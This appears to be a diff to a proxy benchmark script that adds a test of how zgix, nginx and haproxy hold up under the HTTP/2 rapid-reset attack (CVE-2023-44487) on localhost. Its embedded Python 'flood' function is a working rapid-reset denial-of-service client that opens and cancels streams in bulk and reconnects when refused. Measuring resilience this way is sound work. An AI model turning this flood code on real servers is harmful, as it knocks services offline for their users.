@@ -15,6 +15,12 @@ usage: scripts/bench-h2.sh [options]
   --idle N        idle h2 connections held for the RSS figure (default 500)
   --base-port P   first local port (default 19080; uses P..P+3)
   --no-build      use the release binaries under $CARGO_TARGET_DIR (or ./target)
+  --rapid-reset S instead of the rows above: each proxy's p99 for a probe
+                  client (sequential GETs on one h2 connection) for S seconds
+                  alone, then S seconds beside one client that opens and
+                  resets streams (CVE-2023-44487) as fast as it can write,
+                  reconnecting whenever it is sent away; and the proxy's CPU
+                  during each window
   -h, --help      this text
 
 CPU plan: every proxy runs one worker/thread/shard pinned to CPU 0; the
@@ -28,7 +34,7 @@ serving process (nginx: the worker).
 USAGE
 }
 
-rounds=3 requests=20000 idle=500 base_port=19080 build=1
+rounds=3 requests=20000 idle=500 base_port=19080 build=1 rapid=0
 while [ $# -gt 0 ]; do
     case "$1" in
         --rounds) rounds="$2"; shift 2 ;;
@@ -36,11 +42,12 @@ while [ $# -gt 0 ]; do
         --idle) idle="$2"; shift 2 ;;
         --base-port) base_port="$2"; shift 2 ;;
         --no-build) build=0; shift ;;
+        --rapid-reset) rapid="$2"; shift 2 ;;
         -h|--help) usage; exit 0 ;;
         *) echo "bench-h2: unknown option $1 (try --help)" >&2; exit 2 ;;
     esac
 done
-for n in "$rounds" "$requests" "$idle" "$base_port"; do
+for n in "$rounds" "$requests" "$idle" "$base_port" "$rapid"; do
     [[ "$n" =~ ^[0-9]+$ ]] || { echo "bench-h2: $n is not a number" >&2; exit 2; }
 done
 PATH="$PATH:/usr/sbin:/sbin"
@@ -182,9 +189,100 @@ PY
     awk -v a="$after" -v b="$before" -v n="$idle" 'BEGIN {printf "%.2f\n", (a - b) / n}'
 }
 
+# rapid_reset TARGET: "p99_alone_ms cpu_alone_% p99_flood_ms cpu_flood_% flood_streams flood_conns".
+rapid_reset() {
+    local t="$1" pid port
+    pid="$(pid_of "$t")" port="$(port_of "$t")"
+    python3 - "$port" "$rapid" "$pid" <<'PY'
+import os, socket, ssl, struct, sys, time
+port, secs, pid = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
+os.sched_setaffinity(0, {1})
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+ctx.set_alpn_protocols(["h2"])
+def lit(n, v): return bytes([0, len(n)]) + n + bytes([len(v)]) + v
+BLOCK = lit(b":method", b"GET") + lit(b":scheme", b"https") + lit(b":path", b"/") + lit(b":authority", b"bench.example")
+def frame(kind, flags, sid, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload
+def connect():
+    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="bench.example")
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+    return s
+class Reader:
+    def __init__(self, s): self.s, self.buf = s, b""
+    def frame(self):
+        while True:
+            if len(self.buf) >= 9:
+                n = int.from_bytes(self.buf[:3], "big")
+                if len(self.buf) >= 9 + n:
+                    h, self.buf = self.buf[:9 + n], self.buf[9 + n:]
+                    return h[3], h[4], int.from_bytes(h[5:9], "big") & 0x7FFFFFFF, h[9:]
+            b = self.s.recv(65536)
+            if not b: return None
+            self.buf += b
+def probe(until, out):
+    s = connect(); r = Reader(s); sid = 1
+    while time.monotonic() < until:
+        t0 = time.monotonic()
+        s.sendall(frame(1, 5, sid, BLOCK))
+        while True:
+            f = r.frame()
+            if f is None: raise SystemExit("probe: connection closed")
+            kind, flags, fid, p = f
+            if kind == 4 and not flags & 1: s.sendall(frame(4, 1, 0))
+            if kind == 0 and p: s.sendall(frame(8, 0, 0, struct.pack(">I", len(p))))
+            if fid == sid and kind in (0, 1) and flags & 1: break
+            if fid == sid and kind == 3: raise SystemExit("probe: stream reset")
+        out.append(time.monotonic() - t0); sid += 2
+def flood(until, stats):
+    while time.monotonic() < until:
+        try:
+            s = connect(); stats[1] += 1; sid = 1
+            s.settimeout(5)
+            while time.monotonic() < until and sid < 2**31 - 400:
+                batch = b"".join(frame(1, 5, sid + 2 * i, BLOCK) + frame(3, 0, sid + 2 * i, struct.pack(">I", 8)) for i in range(100))
+                s.sendall(batch); sid += 200; stats[0] += 100
+            s.close()
+        except OSError:
+            pass
+def ticks(): return sum(int(x) for x in open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[11:13])
+def window(with_flood):
+    # The flood runs in a child process of its own: the probe never waits on it.
+    lat, stats = [], [0, 0]
+    until = time.monotonic() + secs
+    c0, w0 = ticks(), time.monotonic()
+    child = None
+    if with_flood:
+        rd, wr = os.pipe()
+        child = os.fork()
+        if child == 0:
+            flood(until, stats)
+            os.write(wr, f"{stats[0]} {stats[1]}".encode()); os._exit(0)
+    probe(until, lat)
+    if child:
+        os.waitpid(child, 0)
+        stats = [int(x) for x in os.read(rd, 100).split()]
+    cpu = (ticks() - c0) / (time.monotonic() - w0)  # ticks of 10 ms per second = %
+    lat.sort()
+    return lat[int(len(lat) * 0.99)] * 1000, cpu, stats
+a, ca, _ = window(False)
+b, cb, st = window(True)
+print(f"{a:.2f} {ca:.0f} {b:.2f} {cb:.0f} {st[0]} {st[1]}")
+PY
+}
+
 median() { sort -n | awk '{v[NR] = $1} END {print (NR % 2 ? v[(NR + 1) / 2] : (v[NR / 2] + v[NR / 2 + 1]) / 2)}'; }
 
 targets=(zgix nginx haproxy)
+if [ "$rapid" != 0 ]; then
+    for t in "${targets[@]}"; do run "$t" 4 10 >/dev/null; done # warm up: TLS, pools
+    echo "Rapid reset: a probe's p99 over ${rapid} s alone, then ${rapid} s beside a client opening and resetting streams as fast as it writes; proxy on CPU 0, clients and origin on CPU 1"
+    printf '%-8s %14s %12s %14s %12s %14s %12s\n' target "p99 alone ms" "CPU alone %" "p99 flood ms" "CPU flood %" "flood streams" "flood conns"
+    for t in "${targets[@]}"; do
+        # shellcheck disable=SC2046
+        printf '%-8s %14s %12s %14s %12s %14s %12s\n' "$t" $(rapid_reset "$t")
+    done
+    exit 0
+fi
 for t in "${targets[@]}"; do run "$t" 4 10 >/dev/null; done # warm up: TLS, pools
 for r in $(seq "$rounds"); do
     for t in "${targets[@]}"; do
